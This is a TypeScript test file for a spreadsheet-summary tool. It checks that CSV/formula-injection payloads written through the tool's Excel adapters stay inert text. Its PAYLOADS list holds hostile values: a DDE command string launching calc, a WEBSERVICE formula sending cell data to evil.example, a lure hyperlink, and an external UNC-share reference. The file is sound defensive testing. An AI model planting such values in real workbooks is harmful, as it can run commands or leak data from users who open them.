/**
 * Nothing executed: user text that phuluc writes anywhere stays text. Payloads that Excel would run
 * as a formula, a hyperlink, a DDE call or an external reference go through every write path — the
 * summary through the file writer (checked in the saved zip: no <f>, no hyperlink, no externalLink part),
 * the summary through the fake Office.js API (which turns "=…" into formulas unless the cell is Text
 * or quote-prefixed, as Excel does), and writeCells (one-click fixes) in both adapters — and come
 * back as the same text.
 */
import ExcelJS from "exceljs";
import { analyze } from "../../src/core/analyze";
import { defaultSettings } from "../../src/core/settings";
import { buildSummary } from "../../src/documents/summary/build";
import { OfficeWorkbookPort } from "../../src/excel/port";
import { XlsxWorkbookPort } from "../../src/xlsx/port";
import { readXlsxBytes } from "../../src/xlsx/read";
import { summarizeXlsxBytes } from "../../src/cli/summarize-bytes";
import { fakeWorkbook } from "../fakes/fake-workbook";
import { GridBuilder } from "../support/grid-builder";
import { buildXlsx } from "../support/xlsx-builder";
import { AS_OF } from "./support/cli";
import { zipParts, zipText } from "./support/craft";

export const PAYLOADS = [
  `=HYPERLINK("http://evil.example/x","bấm vào đây")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  `=WEBSERVICE("http://evil.example/?"&A1)`,
  "'=1",
  `=[1]Sheet1!A1`,
  `='\\\\evil\\share\\[x.xlsx]S'!A1`,
  "=1+1",
  "TRUE",
  "#REF!",
  "12",
];

/** An appendix whose task texts, leads and statuses are the payloads; every task is overdue. */
function hostileSheet(name = "PL I"): GridBuilder {
  const g = new GridBuilder(name).title("PHỤ LỤC I", "NHIỆM VỤ NĂM 2026").header().group("I", "=SUM(1,2)");
  PAYLOADS.forEach((p, i) =>
    g.task({ stt: i + 1, content: p, lead: p, support: p, result: p, deadline: "30/01/2026", status: p, note: p }),
  );
  return g;
}

async function expectInertPackage(bytes: Uint8Array | Buffer, sheets: string[]): Promise<void> {
  const parts = await zipParts(bytes);
  expect(parts.filter((p) => /externalLink|connections|queryTable|vbaProject|activeX|oleObject/i.test(p))).toEqual([]);
  const rels = parts.filter((p) => p.endsWith(".rels"));
  for (const r of rels) expect(await zipText(bytes, r)).not.toMatch(/hyperlink|externalLink|oleObject|TargetMode="External"/i);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as any);
  for (const name of sheets) {
    const ws = wb.getWorksheet(name)!;
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.formula).toBeFalsy();
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.type).not.toBe(ExcelJS.ValueType.Hyperlink);
      }),
    );
  }
  for (const p of parts.filter((x) => /^xl\/worksheets\/sheet\d+\.xml$/.test(x))) {
    const xml = await zipText(bytes, p);
    expect(xml).not.toMatch(/<f[\s>]/);
    expect(xml).not.toMatch(/<hyperlinks?[\s>]/);
  }
}

describe("the summary through the file writer writes user text as text", () => {
  it("payloads in task text, leads, statuses and group names: no formula, link or external part in the saved file", async () => {
    const input = await buildXlsx([hostileSheet(), hostileSheet("+PL =1")]);
    const r = await summarizeXlsxBytes(input, { asOf: AS_OF, fileName: "x.xlsx" });
    await expectInertPackage(r.bytes, r.result.sheetNames);
    // The payloads are in the summary as the same text (overdue list: the task texts).
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(r.bytes as any);
    const texts = new Set<string>();
    for (const n of r.result.sheetNames)
      wb.getWorksheet(n)!.eachRow((row) => row.eachCell((c) => typeof c.value === "string" && texts.add(c.value)));
    // (The engine trims the texts it reports: "\t=1+1" is listed as "=1+1", still text.)
    for (const p of PAYLOADS) expect(texts.has(p.trim())).toBe(true);
  });
});

describe("writeCells (one-click fixes) keeps payloads as text", () => {
  it("file adapter: same text back, no <f>, no hyperlink in the saved file", async () => {
    const port = await XlsxWorkbookPort.fromBytes(await buildXlsx([hostileSheet()]), "x.xlsx");
    await port.writeCells(
      "PL I",
      PAYLOADS.map((p, i) => ({ cell: `D${5 + i}`, value: p })),
    );
    const bytes = await port.toBuffer();
    await expectInertPackage(bytes, ["PL I"]);
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(bytes as any);
    // Same text back, a carriage return included (written as a character reference, so no XML reader turns it into a line feed).
    expect(PAYLOADS.map((_p, i) => back.getWorksheet("PL I")!.getCell(`D${5 + i}`).value)).toEqual(PAYLOADS);
    const { grids } = await readXlsxBytes(bytes, "x.xlsx");
    expect(grids[0].values.slice(4, 4 + PAYLOADS.length).map((r) => r[3])).toEqual(PAYLOADS);
  });

  it("Office.js adapter (fake Excel that parses like Excel): same text back, no formula", async () => {
    const fake = fakeWorkbook([new GridBuilder("PL I").row(["a"])]);
    const port = new OfficeWorkbookPort({ run: fake.run, isSetSupported: fake.isSetSupported });
    await port.writeCells(
      "PL I",
      PAYLOADS.map((p, i) => ({ cell: `B${i + 1}`, value: p })),
    );
    PAYLOADS.forEach((p, i) => {
      const c = fake.model.sheet("PL I").at(`B${i + 1}`)!;
      expect(c.formula).toBeUndefined();
      expect(c.error).toBeUndefined();
      expect(c.value).toBe(p);
    });
  });
});

describe("the summary through Office.js (fake) writes user text as text", () => {
  it("every payload cell is Text-formatted text, no cell anywhere has a formula", async () => {
    const { grids } = await readXlsxBytes(await buildXlsx([hostileSheet()]), "x.xlsx");
    const report = analyze(grids, { asOf: AS_OF, settings: defaultSettings() });
    const spec = buildSummary(report, defaultSettings());
    const fake = fakeWorkbook([hostileSheet()]);
    const port = new OfficeWorkbookPort({ run: fake.run, isSetSupported: fake.isSetSupported });
    const res = await port.writeSummary(spec);
    const texts = new Set<string>();
    for (const s of fake.model.sheets) {
      for (const c of s.cells.values()) {
        expect(c.formula).toBeUndefined();
        if (typeof c.value === "string") texts.add(c.value);
      }
    }
    for (const p of PAYLOADS) expect(texts.has(p)).toBe(true);
    expect(res.sheetNames.length).toBeGreaterThan(0);
  });
});
